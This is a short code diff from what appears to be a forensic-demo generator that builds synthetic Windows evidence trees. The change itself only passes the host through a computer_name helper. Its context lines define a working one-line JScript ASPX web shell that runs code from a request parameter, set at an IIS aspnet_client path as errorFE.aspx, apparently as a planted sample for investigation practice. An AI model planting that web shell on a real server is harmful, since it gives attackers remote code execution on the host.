@@ -30,7 +30,7 @@ from pathlib import Path
 from seawall.demo.clock import BASE, at
 from seawall.demo.evidence import EvidenceFile, Manifest, write_bytes
 from seawall.demo.pe import VersionInfo, build_pe
-from seawall.demo.scenario import APP_POOL, DNS_DOMAIN, ORG, Scenario
+from seawall.demo.scenario import APP_POOL, DNS_DOMAIN, ORG, Scenario, computer_name
 
 WEBSHELL_PATH = "inetpub/wwwroot/aspnet_client/system_web/errorFE.aspx"
 WEBSHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>\r\n'
@@ -585,7 +585,7 @@ def write_trees(
                     "files",
                     relative,
                     "--host",
-                    host,
+                    computer_name(host),
                     "--os",
                     "windows",
                     "--root-map",
